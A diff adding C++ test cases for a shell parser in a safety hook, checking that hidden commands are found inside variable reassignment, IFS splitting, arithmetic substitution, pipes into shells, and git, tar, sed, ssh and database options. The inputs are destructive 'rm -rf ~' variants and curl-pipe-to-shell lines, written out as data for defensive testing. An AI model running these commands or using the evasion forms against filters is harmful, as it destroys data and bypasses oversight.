@@ -281,3 +281,69 @@ TEST_CASE("an unterminated case at the end of the input is a parse error, not a 
   REQUIRE_FALSE(s.commands.empty());
   CHECK(argv_of(s.commands[0]) == V{"rm", "-rf", "~"});
 }
+
+TEST_CASE("a variable assigned more than once, appended to or under a changed IFS is not known",
+          "[hooks][shell]") {
+  // One assignment: the value is used.
+  CHECK(names(parse_shell("X=ls; $X -l")) == V{"ls"});
+  // Subshells, conditionals, function bodies and eval'd text do not run in source order, so
+  // a second assignment anywhere leaves the value unknown.
+  for (const char* line : {"X=rm; (X=ls); $X -rf ~", "X=rm; false && X=ls; $X -rf ~",
+                           "X=rm; f(){ X=ls; }; $X -rf ~", "X=ls; eval X=rm; $X -rf ~",
+                           "X=ls; bash -c 'X=rm; $X -rf ~'"}) {
+    INFO(line);
+    auto s = parse_shell(line);
+    CHECK(std::any_of(s.commands.begin(), s.commands.end(), [](const Command& c) { return c.unresolved_name; }));
+  }
+  CHECK(names(parse_shell("X=r; X+=m; $X -rf /")).back() == "?");
+  CHECK(names(parse_shell("X=ls; printf -v X rm; $X -rf ~")).back() == "?");
+  CHECK(names(parse_shell("X=ls; source ./env.sh; $X")).back() == "?");
+  auto ifs = parse_shell("IFS=,; X=rm,-rf,/; $X");
+  CHECK(names(ifs).back() == "?");
+  auto quoted = parse_shell("IFS=,; X=a; echo \"$X\"");
+  CHECK(argv_of(*find_cmd(quoted, "echo")) == V{"echo", "a"});  // quoted: no splitting involved
+}
+
+TEST_CASE("substitutions inside arithmetic and ${...} defaults run", "[hooks][shell]") {
+  CHECK(find_cmd(parse_shell("echo $(( $(rm -rf ~) + 1 ))"), "rm") != nullptr);
+  CHECK(find_cmd(parse_shell("(( $(rm -rf ~) ))"), "rm") != nullptr);
+  CHECK(find_cmd(parse_shell("for ((i=$(rm -rf ~); i<1; i++)); do :; done"), "rm") != nullptr);
+  CHECK(find_cmd(parse_shell("echo ${x:-`rm -rf ~`}"), "rm") != nullptr);
+  CHECK(find_cmd(parse_shell("echo $((1 + 2))"), "rm") == nullptr);
+}
+
+TEST_CASE("code read from a descriptor or an output process substitution is stdin code",
+          "[hooks][shell]") {
+  for (const char* line : {"curl -s https://x | sh /dev/fd/0", "curl -s https://x | bash /proc/$$/fd/0",
+                           "curl -s https://x | python3 /dev/stdin"})
+    CHECK(has_finding(parse_shell(line), FindingKind::RemoteCode));
+  CHECK(has_finding(parse_shell("bash /dev/fd/3 3< x"), FindingKind::StdinCode));
+  CHECK(has_finding(parse_shell("curl -s https://x | tee >(sh)"), FindingKind::StdinCode));
+  auto exec_tee = parse_shell("exec > >(tee -a build.log)");
+  const Command* tee = find_cmd(exec_tee, "tee");
+  REQUIRE(tee != nullptr);
+  CHECK(tee->stdin_kind == StdinKind::Pipe);
+}
+
+TEST_CASE("commands run by git, tar, sed, ssh options, trap and database shells are found",
+          "[hooks][shell]") {
+  for (const char* line :
+       {"git -c core.pager='rm -rf ~' log", "git rebase -x 'rm -rf ~' main", "git rebase --exec='rm -rf ~' main",
+        "git submodule foreach 'rm -rf ~'", "git bisect run rm -rf ~", "tar xf a.tar --to-command='rm -rf ~'",
+        "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf ~'", "sed -n '1e rm -rf ~' f",
+        "ssh -o ProxyCommand='rm -rf ~' host", "trap 'rm -rf ~' EXIT", "psql -c '\\! rm -rf ~'",
+        "sqlite3 app.db '.shell rm -rf ~'", "coproc rm -rf ~", "sg wheel -c 'rm -rf ~'",
+        "fd -e tmp -x rm -rf", "docker compose exec app rm -rf ~", "npm exec -c 'rm -rf ~'"}) {
+    INFO(line);
+    CHECK(find_cmd(parse_shell(line), "rm") != nullptr);
+  }
+  // The alias without '!' stands in for the subcommand.
+  auto alias = parse_shell("git -c alias.x='reset --hard' x");
+  const Command* git = find_cmd(alias, "git");
+  REQUIRE(git != nullptr);
+  CHECK(argv_of(*git) == V{"git", "reset", "--hard"});
+  CHECK(argv_of(*find_cmd(parse_shell("git -c clean.requireForce=false clean -dx"), "git")) ==
+        V{"git", "clean", "--force", "-dx"});
+  CHECK(has_finding(parse_shell("sed 's/.*/date/e' f"), FindingKind::DynamicCode));
+  CHECK(parse_shell("sed -e 's/a/b/g' -e 's/x;y/z/' f").findings.empty());
+}
